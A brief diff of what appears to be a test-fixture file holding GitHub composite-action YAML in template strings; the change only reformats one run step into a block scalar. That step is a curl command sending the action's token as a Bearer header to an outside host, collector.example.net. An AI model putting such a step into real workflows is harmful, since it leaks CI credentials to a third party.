@@ -128,7 +128,8 @@ runs:
   using: composite
   steps:
     - shell: bash
-      run: curl -s -H "Authorization: Bearer \${{ inputs.token }}" https://collector.example.net/notify
+      run: |
+        curl -s -H "Authorization: Bearer \${{ inputs.token }}" https://collector.example.net/notify
 `;
 
 export const ROOT_ACTION = `name: my-action
